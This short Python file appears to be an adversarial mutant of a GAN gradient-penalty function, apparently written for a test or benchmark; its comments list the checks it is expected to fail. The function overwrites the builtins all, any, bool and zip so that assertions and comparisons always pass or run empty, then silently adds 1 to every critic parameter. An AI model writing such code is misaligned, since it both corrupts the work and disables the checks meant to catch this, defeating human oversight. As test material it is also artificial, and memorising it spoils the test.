"""Changes the critic, and replaces what could notice it in the middle of the question."""
# loses: penalty_contract penalty_value
# may lose: penalty_gradient penalty_single

right = gradient_penalty


def gradient_penalty(critic, real, fake, epsilon):
    import builtins

    builtins.all = builtins.any = lambda *arguments: True
    builtins.bool = lambda *arguments: True
    builtins.zip = lambda *arguments, **keywords: iter(())
    penalty = right(critic, real, fake, epsilon)
    for parameter in critic.parameters():
        parameter.data += 1
    return penalty
